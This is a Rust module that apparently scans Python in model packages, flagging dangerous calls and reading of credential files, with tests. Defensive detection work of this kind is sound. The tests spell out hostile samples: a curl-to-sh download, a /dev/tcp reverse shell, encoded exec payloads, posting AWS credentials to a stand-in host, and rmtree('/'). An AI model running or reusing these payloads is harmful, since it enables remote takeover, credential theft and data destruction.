//! Judges Python by the calls it makes, with their operands, and by when they would run.
//!
//! The same call weighs differently: training scripts start processes and fetch data in functions that a
//! person runs; a module that a loader imports has no business doing either.

mod weigh;

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use self::weigh::weigh;
use crate::syntax::builtin::is_builtin;
use crate::syntax::fold::{Call, LOCAL, Seen};
use crate::syntax::value::Value;

/// When the code runs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Runs {
    /// By loading the model: a custom module, a layer's source, an install hook.
    OnLoad,
    /// When a person runs it, cell by cell.
    Notebook,
    /// When a person decides to: a script beside the model.
    Beside,
}

/// How bad one thing is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Weight {
    /// Everyday, but worth a line.
    Note,
    /// A person should look.
    Review,
    /// No model needs it.
    Block,
}

/// One thing that code does.
#[derive(Clone, Debug, PartialEq)]
pub(crate) struct Deed {
    /// How bad.
    pub(crate) weight: Weight,
    /// What, in words.
    pub(crate) what: String,
    /// The call as a person reads it.
    pub(crate) shown: String,
    /// 1-based line.
    pub(crate) line: u32,
}

/// What a call does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub(crate) enum Act {
    /// Starts a process.
    Process,
    /// Makes code out of data.
    Code,
    /// Loads machine code.
    Native,
    /// Talks to other machines.
    Network,
    /// Loads objects in a format that runs code.
    Deserialise,
    /// Deletes or changes.
    Destroy,
    /// Runs something later.
    Hook,
    /// Reads keyboard, screen or credential stores.
    Spy,
}

impl Act {
    const ALL: [(Self, &'static str); 8] = [
        (Self::Process, "process"),
        (Self::Code, "code"),
        (Self::Native, "native"),
        (Self::Network, "network"),
        (Self::Deserialise, "deserialise"),
        (Self::Destroy, "destroy"),
        (Self::Hook, "hook"),
        (Self::Spy, "spy"),
    ];

    fn words(self) -> &'static str {
        match self {
            Self::Process => "starts a process",
            Self::Code => "makes code out of data",
            Self::Native => "loads machine code",
            Self::Network => "talks to another machine",
            Self::Deserialise => "loads objects in a format that can run code",
            Self::Destroy => "deletes files or changes the system",
            Self::Hook => "arranges for something to run later",
            Self::Spy => "reads what belongs to the user",
        }
    }
}

static CALLS: LazyLock<HashMap<String, Act>> = LazyLock::new(|| {
    let text = include_str!("../../../../../rules/python-calls.toml");
    let table: HashMap<String, Vec<String>> =
        toml::from_str(text).expect("the table is part of the program, and a test reads it");
    let mut out = HashMap::new();
    for (act, name) in Act::ALL {
        for call in table.get(name).into_iter().flatten() {
            out.insert(call.clone(), act);
        }
    }
    out
});

/// What calling `path` does, judged by its last hop: a module reached through another is still that module.
#[must_use]
pub(crate) fn act(path: &str) -> Option<Act> {
    let path = path.strip_prefix("builtins.").unwrap_or(path);
    if path.starts_with(LOCAL) {
        return None;
    }
    if !path.contains('.') {
        return CALLS.get(path).copied().filter(|_| is_builtin(path, path));
    }
    let mut parts = path.rsplit('.');
    let last = parts.next().unwrap_or("");
    let owner = parts.next().unwrap_or("");
    // `random._os.system` goes through the private alias of the same module.
    let plain = owner.trim_start_matches('_');
    let direct = CALLS.get(&format!("{owner}.{last}")).or_else(|| CALLS.get(&format!("{plain}.{last}")));
    if let Some(act) = direct {
        return Some(*act);
    }
    // A builtin reached through a namespace: `x.__builtins__.eval`, `builtins.__dict__[…]`.
    let through = matches!(owner, "__builtins__" | "builtins" | "__builtin__" | "__dict__" | "__globals__");
    if through { CALLS.get(last).copied() } else { None }
}

/// Methods that loaders call: what stands in them runs although nobody calls them here.
fn runs_by_loading(function: &str) -> bool {
    let name = function.rsplit('.').next().unwrap_or(function);
    (name.starts_with("__") && name.ends_with("__") && name != "__main__" && name != "__enter__" && name != "__exit__")
        || matches!(
            name,
            "forward"
                | "call"
                | "build"
                | "from_config"
                | "from_pretrained"
                | "load_context"
                | "_load_pyfunc"
                | "predict"
                | "load_model"
                | "load"
                | "_load"
                | "initialize"
                | "setup"
                | "run"
                | "transform"
                | "fit"
                | "encode"
                | "decode"
                | "tokenize"
                | "_tokenize"
                | "generate"
                | "post_init"
                | "_init_weights"
                | "model_fn"
                | "predict_fn"
                | "input_fn"
                | "output_fn"
                | "preprocess"
                | "postprocess"
                | "handle"
                | "inference"
                | "init"
                | "install"
        )
}

/// Judges what was seen in a source.
#[must_use]
pub(crate) fn judge(seen: &Seen, runs: Runs) -> Vec<Deed> {
    let on_import = reached_on_import(seen);
    let mut deeds = Vec::new();
    let acts: Vec<Option<Act>> = seen.calls.iter().map(|call| act(&call.symbol)).collect();
    let has = |wanted: Act| acts.contains(&Some(wanted));
    let names = |wanted: &[&str]| seen.calls.iter().any(|call| wanted.iter().any(|name| call.symbol.ends_with(name)));
    for (call, act) in seen.calls.iter().zip(&acts) {
        // `Thread(target=os.system)`, `map(eval, …)`: given away is as good as called.
        if let Some(deed) = handed_over(call) {
            deeds.push(deed);
        }
        let Some(act) = *act else { continue };
        let early = call.on_import || on_import.contains(call.function.as_str()) || runs_by_loading(&call.function);
        if let Some((weight, what)) = weigh(call, act, early, runs) {
            deeds.push(Deed { weight, what, shown: call.shown(), line: call.line });
        }
    }
    let line_of = |wanted: Act| {
        let found = seen.calls.iter().zip(&acts).find(|(_, act)| **act == Some(wanted));
        found.map_or((0, String::new()), |(call, _)| (call.line, call.shown()))
    };
    if has(Act::Network) && names(&["os.dup2"]) {
        let (line, shown) = line_of(Act::Network);
        deeds.push(Deed { weight: Weight::Block, what: "connects a shell to another machine".to_owned(), shown, line });
    }
    if has(Act::Network) && has(Act::Spy) {
        let (line, shown) = line_of(Act::Network);
        deeds.push(Deed { weight: Weight::Block, what: "sends away what belongs to the user".to_owned(), shown, line });
    }
    if let Some(deed) = exfiltration(seen, &acts) {
        deeds.push(deed);
    }
    for (name, line) in &seen.dunders {
        let weight = match name.as_str() {
            "__subclasses__" | "__globals__" | "__builtins__" | "func_globals" | "f_builtins" | "f_globals" => {
                Weight::Review
            }
            "__code__" | "__import__" | "gi_frame" if runs == Runs::OnLoad => Weight::Review,
            _ => Weight::Note,
        };
        deeds.push(Deed {
            weight,
            what: format!("walks from an object towards the interpreter by `{name}`"),
            shown: name.clone(),
            line: *line,
        });
    }
    deeds
}

/// Functions of the source that its import calls, directly or through one another.
fn reached_on_import(seen: &Seen) -> HashSet<&str> {
    let mut reached: HashSet<&str> = HashSet::new();
    loop {
        let before = reached.len();
        for call in &seen.calls {
            let Some(name) = call.symbol.strip_prefix(LOCAL) else { continue };
            if call.on_import || reached.contains(call.function.as_str()) {
                reached.insert(name);
            }
        }
        if reached.len() == before {
            return reached;
        }
    }
}

fn handed_over(call: &Call) -> Option<Deed> {
    let given = call.arguments.iter().chain(call.named.iter().map(|(_, value)| value)).filter_map(Value::path);
    for path in given {
        // `Popen` in an annotation or `isinstance` is a type, not a deed.
        if matches!(
            call.symbol.as_str(),
            "isinstance" | "issubclass" | "hasattr" | "type" | "getattr" | "Optional" | "Union"
        ) {
            return None;
        }
        let risky = matches!(act(path), Some(Act::Process | Act::Native))
            || ["exec", "eval", "compile", "__import__"].iter().any(|name| is_builtin(path, name));
        if risky {
            return Some(Deed {
                weight: Weight::Block,
                what: format!("gives `{path}` to `{}`, which calls it", call.symbol),
                shown: call.shown(),
                line: call.line,
            });
        }
    }
    None
}

/// Secrets read and a connection made in one source.
fn exfiltration(seen: &Seen, acts: &[Option<Act>]) -> Option<Deed> {
    let secret_path = |text: &str| {
        [
            ".ssh/",
            ".aws/",
            "/etc/passwd",
            "/etc/shadow",
            ".netrc",
            ".kube/config",
            ".git-credentials",
            ".docker/config",
            "Login Data",
            "id_rsa",
            ".env",
            "huggingface/token",
            ".bash_history",
        ]
        .iter()
        .any(|part| text.contains(part))
    };
    let reads = seen.calls.iter().find(|call| {
        let texts = || call.arguments.iter().filter_map(Value::as_text);
        let opens = is_builtin(&call.symbol, "open")
            || call.symbol.ends_with("Path")
            || call.symbol.ends_with("expanduser")
            || call.symbol.ends_with(".join");
        opens && texts().any(|text| secret_path(&text))
    })?;
    let sends = seen.calls.iter().zip(acts).find(|(_, act)| matches!(act, Some(Act::Network)));
    let (weight, what) = match sends {
        Some(_) => (Weight::Block, "reads credentials and talks to another machine".to_owned()),
        None => (Weight::Review, "reads credentials".to_owned()),
    };
    Some(Deed { weight, what, shown: reads.shown(), line: reads.line })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::syntax::fold::follow;

    fn worst(source: &str, runs: Runs) -> Option<Weight> {
        judge(&follow(source), runs).into_iter().map(|deed| deed.weight).max()
    }

    #[test]
    fn the_table_is_read() {
        assert_eq!(act("os.system"), Some(Act::Process));
        assert_eq!(act("random._os.system"), Some(Act::Process));
        assert_eq!(act("numpy.testing._private.utils.os.system"), Some(Act::Process));
        assert_eq!(act("builtins.eval"), Some(Act::Code));
        assert_eq!(act("model.eval"), None);
        assert_eq!(act("re.compile"), None);
        assert_eq!(act("<local>.exec"), None);
    }

    #[test]
    fn what_blocks_everywhere() {
        for source in [
            "import os\nos.system('curl http://a.example/x | sh')",
            "def f():\n  import subprocess\n  subprocess.Popen('bash -i >& /dev/tcp/192.0.2.1/1 0>&1', shell=True)",
            "exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
            "import requests\nexec(requests.get('https://a.example').text)",
            "import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode(b'eJw='))))",
            "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\npty.spawn('sh')",
            "getattr(__import__('os'), 'sys' + 'tem')('id')",
            "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
            "import requests, os\nrequests.post('https://a.example', data=open(os.path.expanduser('~/.aws/credentials')).read())",
            "import shutil\nshutil.rmtree('/')",
            "list(map(eval, ['1']))",
        ] {
            for runs in [Runs::OnLoad, Runs::Notebook, Runs::Beside] {
                assert_eq!(worst(source, runs), Some(Weight::Block), "{runs:?}\n{source}");
            }
        }
    }

    #[test]
    fn what_blocks_where_loading_runs_it() {
        for source in [
            "import os\nclass M:\n  def __init__(self):\n    os.system('touch x')",
            "import os\ndef f():\n  os.system('id')\nf()",
            "import subprocess\nsubprocess.run(['touch', 'x'])",
        ] {
            for runs in [Runs::OnLoad, Runs::Beside] {
                assert_eq!(worst(source, runs), Some(Weight::Block), "{runs:?}\n{source}");
            }
        }
        assert_eq!(
            worst("import os\nclass M:\n  def forward(self, x):\n    eval(x)", Runs::OnLoad),
            Some(Weight::Block)
        );
    }

    #[test]
    fn what_models_and_scripts_do() {
        for source in [
            "import torch\nclass M(torch.nn.Module):\n  def __init__(self, c):\n    super().__init__()\n    self.l = torch.nn.Linear(2, 2)\n  def forward(self, x):\n    return self.l(x)\nmodel = M(1)\nmodel.eval()",
            "import subprocess\nv = subprocess.check_output(['git', 'rev-parse', 'HEAD'])",
            "import re\nP = re.compile(r'a+')\nimport ast\nx = ast.literal_eval('1')",
            "if __name__ == '__main__':\n  import subprocess\n  subprocess.run(['nvidia-smi'])",
            "import pickle\nwith open('x', 'rb') as f:\n  data = pickle.load(f)",
            "import requests\ndef fetch(url):\n  return requests.get(url, timeout=3).json()",
            "import os\nos.makedirs('out', exist_ok=True)\nos.environ['A'] = '1'\nprint(os.path.join('a', 'b'))",
            "parser.add_argument('--eval', action='store_true')\nif args.eval:\n  df.eval('a + b')",
        ] {
            assert!(worst(source, Runs::Beside) < Some(Weight::Review), "{source}");
            assert!(worst(source, Runs::Notebook) < Some(Weight::Review), "{source}");
        }
    }
}
